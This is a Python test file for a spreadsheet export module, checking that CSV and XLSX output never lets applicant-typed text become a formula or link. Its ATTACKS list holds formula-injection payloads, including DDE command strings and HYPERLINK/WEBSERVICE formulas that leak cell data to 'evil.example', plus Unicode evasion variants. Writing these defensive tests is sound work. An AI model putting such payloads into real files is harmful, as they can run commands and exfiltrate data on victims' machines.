"""The rules of `foundation.exports`: what an applicant typed is never computed, and every number stays a number."""

import csv
import io
import unicodedata
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from craftfair.foundation.exports import Cell, Sheet, csv_rows, harmless, xlsx

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n\t =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b\u200b=1+1",
    "\u2066\u202e=1+1",
    "\u3000=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "＝1+1",
    "﹦1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "⁼1+1",
    "⩵1",
    "-",
    "=",
    "DDE\n=1+1",
    'a",=1+1',
    'a";=1+1',
    "a;=1+1;b",
    "a,=1+1,b",
    'a,"=1+1"',
    "a\t=1+1",
    "a\r\n=1+1",
    "a,\u200b=1+1",
    "a;  @SUM(1)",
]
HARMLESS = [
    "",
    "Мария Иванова-Петрова",
    "Bois & cie (1998) = l'atelier",
    "maria@example.org",
    "A, B; C",
    "lime, - mostly - and oak",
    'said "so"',
    "two\nlines",
    "1 + 1",
    "'quoted'",
    "2025-10-03",
    "a|b",
]
UNSEEN = {"Cf", "Cc", "Zs", "Zl", "Zp"}


def is_live(cell: str) -> bool:
    """Whether a spreadsheet might compute it, as SECURITY.md says it; on purpose in other words than the code's."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    for character in cell:
        if unicodedata.category(character) not in UNSEEN:
            return unicodedata.normalize("NFKC", character)[0] in "=+-@|"
    return False


def parsed(pieces: Iterator[bytes], delimiter: str = ";") -> list[list[str]]:
    text = b"".join(pieces).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def written(*rows: Sequence[Cell], delimiter: str = ";") -> list[list[str]]:
    """The rows as they are read again, without the header."""
    return parsed(csv_rows(["column"], rows, delimiter=delimiter), delimiter)[1:]


@pytest.mark.parametrize("delimiter", [";", ","])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_is_live_whichever_separator_it_is_read_with(attack: str, delimiter: str) -> None:
    rows = [["before", attack, "after"], [attack, attack, "after"]]
    for read_with in ";,\t":
        cells = [
            cell
            for row in parsed(csv_rows([attack], rows, delimiter=delimiter), read_with)
            for line in row
            for cell in line.split("\n")
        ]
        assert [cell for cell in cells if is_live(cell)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_apostrophes_are_added_to_an_attack_and_nothing_is_lost(attack: str) -> None:
    [[_, cell, _]] = written(["before", attack, "after"])
    assert cell.replace("'", "") == attack.replace("'", "")


@example("\r|")
@given(st.text())
def test_no_text_at_all_is_live_or_loses_a_character(text: str) -> None:
    assert not is_live(harmless(text))
    assert harmless(text).replace("'", "") == text.replace("'", "")
    assert harmless(harmless(text)) == harmless(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_arrives_as_it_was_typed(text: str) -> None:
    assert written(["x", text]) == [["x", text]]


def test_every_compatibility_form_of_a_sign_is_known() -> None:
    signs = [c for c in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", c)[:1] in {"=", "+", "-", "@", "|"}]
    assert len(signs) > 15
    assert [sign for sign in signs if not harmless(f"{sign}1").startswith("'")] == []


def test_no_invisible_character_hides_a_sign() -> None:
    visible_marks = "ARABIC", "SYRIAC", "KAITHI", "EGYPTIAN"
    unseen = [
        c
        for c in map(chr, range(0x110000))
        if unicodedata.category(c) in UNSEEN and not unicodedata.name(c, "").startswith(visible_marks)
    ]
    assert [hex(ord(c)) for c in unseen if not harmless(f"{c}=1").startswith("'")] == []


def test_a_telephone_number_stays_readable() -> None:
    assert written(["+359 88 123 4567", "00359 88"]) == [["'+359 88 123 4567", "00359 88"]]


def test_numbers_are_written_as_numbers_also_below_zero() -> None:
    row = [-5, -2.5, Decimal("-3.10"), 0, 78.5, 10**12]
    assert written(row) == [["-5", "-2,5", "-3,10", "0", "78,5", "1000000000000"]]
    assert written(row, delimiter=",") == [["-5", "-2.5", "-3.10", "0", "78.5", "1000000000000"]]


def test_days_hours_and_gaps_are_written_plainly() -> None:
    row = [date(2010, 12, 4), datetime(2010, 9, 15, 17, 0, tzinfo=UTC), time(11, 30), None, True]
    assert written(row) == [["2010-12-04", "2010-09-15 17:00", "11:30:00", "", "True"]]


def test_the_file_begins_with_a_byte_order_mark_and_its_header_before_any_row_is_asked_for() -> None:
    def rows() -> Iterator[list[str]]:
        asked.append(True)
        yield ["Ловеч"]

    asked: list[bool] = []
    pieces = csv_rows(["Town", "=danger"], rows())
    assert next(pieces) == b"\xef\xbb\xbfTown;'=danger\r\n"
    assert asked == []
    assert next(pieces) == "Ловеч\r\n".encode()
    assert list(pieces) == []


def test_a_long_table_comes_in_pieces_and_never_as_a_whole() -> None:
    asked = 0

    def rows() -> Iterator[list[int]]:
        nonlocal asked
        for asked in range(1, 10_001):
            yield [asked]

    pieces = csv_rows(["n"], rows())
    next(pieces)
    next(pieces)
    assert asked < 1000
    assert len(parsed(csv_rows(["n"], ([n] for n in range(10_000))))) == 10_001


def test_half_a_character_does_not_break_an_export() -> None:
    assert written(["a\ud800b"]) == [["a?b"]]
    assert cells_of(xlsx([Sheet("s", ["h"], [["a\ud800b"]])]))[1][0].value == "a\ufffdb"


def workbook(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def cells_of(data: bytes) -> list[tuple[Any, ...]]:
    return list(workbook(data).active.iter_rows())


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    hostile = [*ATTACKS, "http://evil.example", "mailto:x@evil.example", "internal:Sheet1!A1", "{=1+1}"]
    data = xlsx([Sheet("s", ["h", "=h"], [[attack, 1] for attack in hostile])])
    cells = [cell for row in cells_of(data) for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert cells[2].value == "=1+1"


def test_each_cell_of_a_workbook_has_its_type() -> None:
    row = ["007", -5, 2.5, Decimal("3.10"), True, date(2010, 12, 4), time(11, 30), None]
    cells = cells_of(xlsx([Sheet("s", list("abcdefgh"), [row])]))[1]
    assert [cell.value for cell in cells[:5]] == ["007", -5, 2.5, 3.1, True]
    assert (cells[5].value.date(), cells[5].number_format) == (date(2010, 12, 4), "yyyy-mm-dd")
    assert [cell.value for cell in cells[6:]] == [time(11, 30), None]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "n", "b", "d", "d", "n"]


def test_a_moment_is_written_as_the_wall_clock_it_came_with() -> None:
    moment = datetime(2010, 9, 15, 17, 0, tzinfo=UTC)
    assert cells_of(xlsx([Sheet("s", ["h"], [[moment]])]))[1][0].value == moment.replace(tzinfo=None)


def test_the_header_is_bold_stays_in_sight_and_filters_all_rows() -> None:
    page = workbook(
        xlsx([Sheet("Applications", ["Town", "A rather long header"], [["Ловеч", 1], ["Laval", 2]])])
    ).active
    assert page.title == "Applications"
    assert [cell.font.bold for cell in page[1]] == [True, True]
    assert [cell.font.bold for cell in page[2]] == [False, False]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:B3"
    assert page.column_dimensions["B"].width > page.column_dimensions["A"].width


def test_an_empty_table_is_still_a_workbook() -> None:
    assert [[cell.value for cell in row] for row in cells_of(xlsx([Sheet("s", ["a", "b"], [])]))] == [["a", "b"]]


def test_a_text_too_long_for_a_cell_is_cut_and_shows_it() -> None:
    value = cells_of(xlsx([Sheet("s", ["h"], [["x" * 40_000]])]))[1][0].value
    assert len(value) == 32_767
    assert value.endswith("x…")


def test_sheets_get_names_that_a_spreadsheet_accepts() -> None:
    names = ["Lovech / Laval: [2010]?", "x" * 40, "x" * 40, "X" * 40, "'quoted'", "", "Ловеч"]
    book = workbook(xlsx([Sheet(name, ["h"], []) for name in names]))
    assert book.sheetnames == [
        "Lovech   Laval   2010",
        "x" * 31,
        "x" * 29 + " 2",
        "X" * 29 + " 3",
        "quoted",
        "1",
        "Ловеч",
    ]
